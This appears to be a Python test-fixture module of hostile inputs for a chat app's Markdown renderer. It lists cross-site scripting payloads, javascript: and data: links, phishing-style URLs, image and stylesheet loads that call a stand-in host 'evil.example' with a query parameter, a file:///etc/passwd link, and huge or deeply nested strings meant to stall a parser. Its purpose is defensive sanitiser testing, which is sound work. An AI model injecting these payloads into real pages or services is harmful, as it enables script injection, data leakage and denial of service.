"""Hostile message texts, from public catalogues of attacks."""

from typing import Final

from rooms.markup import MAX_LINES
from rooms.markup.as_typed import MAX_CELLS
from rooms.markup.work import MAX_OF_ONE_SIGN

SCRIPTS: Final = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='//evil.example#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\ncode\n```",
    '```"onmouseover="alert(1)\ncode\n```',
    "    <script>alert(1)</script>",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    'https://a.example/"onmouseover=alert(1)',
    "<https://a.example/'onmouseover='alert(1)>",
    '@<img src=x onerror="alert(1)">',
    "<p style='background:url(//evil.example)'>x</p>",
    "<p class='message' data-author='persona'>x</p>",
]

UNLINKED: Final = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x](ftp://a.example/)",
    "[x](about:blank)",
    "[x](chrome://settings)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/accounts/logout/)",
    "[x](https:/\\evil.example)",
    "[x](https://bank.example@evil.example/)",
    "[x](https://bank.example%5C@evil.example/)",
    "[x](https://user:word@evil.example/)",
    "https://bank.example@evil.example/",
    "<https://bank.example@evil.example/>",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://[::1)",
    "[x](https://)",
]

LOADING: Final = [
    "![x](https://evil.example/?d=1)",
    "![x][y]\n\n[y]: https://evil.example/?d=1",
    "![](//evil.example/a.png)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "<img srcset='https://evil.example/a 1x'>",
    "<picture><source srcset=https://evil.example></picture>",
    "<video poster=https://evil.example></video>",
    "<audio src=https://evil.example></audio>",
    "<link rel=preload href=https://evil.example>",
    "<svg><image href=https://evil.example></svg>",
    "<table background=https://evil.example>",
    "<div style='background:url(https://evil.example)'>",
    "```mermaid\ngraph TD; A[<img src=https://evil.example>]\n```",
    "https://evil.example/preview",
]

# Text that a Markdown parser needs much time for.
# fmt: off
UNITS: Final = [
    "[]", "![", "[](", "*a", "_a ", "**a*", "*_", "*a**b***", "<a ", "<http://a>", "&amp;",
    "> ", ">\n", "- ", "- a\n", "+ a\n\n", "1. ", "[a]: b\n", "[[a](b)", "|a", "|a|\n|-|\n",
    "-|-\n", "a\n", "a\n=\n", "```\n", "~~~\n", "`` ` ", "@a ", "@a\n", "http://a ", "\\[", "$$",
    "\ud800",
]
# fmt: on
HOSTILE: Final = {
    **{f"100k of {sign!r}": sign * 100_000 for sign in "[]()*_~`|<>&!#-+=\\\"':@ \t\na0가"},
    **{f"100k of {unit!r}": (unit * 100_000)[:100_000] for unit in UNITS},
    "1 MB in one line": "x" * 1_000_000,
    "1 MB of entities": "&lt;" * 250_000,
    "nested lists": "".join("  " * depth + "- a\n" for depth in range(400)),
    "nested quotes": "".join(">" * depth + " a\n" for depth in range(400)),
    "nested emphasis": "*a **b " * 5_000 + "** c*" * 5_000,
    "a wide table": "|" + "a|" * 4_000 + "\n|" + "-|" * 4_000 + "\n" + "|a|\n" * 2_000,
    "backticks of every length": " ".join("`" * length for length in range(1, 450)),
}
PROSE: Final = "Lorem **ipsum** dolor `sit` [amet](https://a.example) elit.\n\n" * 600
# The same shapes at the limits of `rooms.markup`, where text is still parsed.
EDGE: Final = {
    **{
        f"the most of {unit!r}": (unit * MAX_OF_ONE_SIGN)[: MAX_OF_ONE_SIGN * len(unit)]
        for unit in (
            "[",
            "*",
            "_a",
            "~~a",
            "<",
            "> ",
            "[a](",
            "![a",
            "*a ",
            "*_",
            "&a",
            "`a",
            "[a]",
            "$a ",
            "\\( ",
            "[^1]",
            "[^a]",
        )
    },
    "the most open formulas": ("\\( " * MAX_OF_ONE_SIGN + "\n\n") * 13,
    "the most lines of formulas": "$$ a\n" * MAX_LINES,
    "the most notes": "[^1]: a\n" * MAX_LINES,
    "the most lines": "- a\n" * MAX_LINES,
    "the most lines of quotes": "> a\n" * MAX_LINES,
    "the most headings": "a\n=\n" * (MAX_LINES // 2),
    "the most cells": "|a|b|\n|-|-|\n" + "|a|b|\n" * min(MAX_CELLS // 3, 1_300),
    "the widest table": "|" + "a|" * 70 + "\n|" + "-|" * 70 + "\n" + "|a|\n" * 60,
    # Tables of one row each end at a quote or a heading: each line could be the head of the next.
    "the most delimiter rows": "-|-\n" * MAX_LINES,
    "the most quoted delimiter rows": "> -|-\n" * (MAX_LINES * 4 // 5),
    "the most small tables": "-|-\n-|-\n# # [a](> > " * 700,
    "the most tables": "a|b\n-|-\n1|2\n\n" * 620,
    "the most links in quotes": '\n> <http://a>\\`_\n\n"' * 600,
    "the longest prose": PROSE,
}
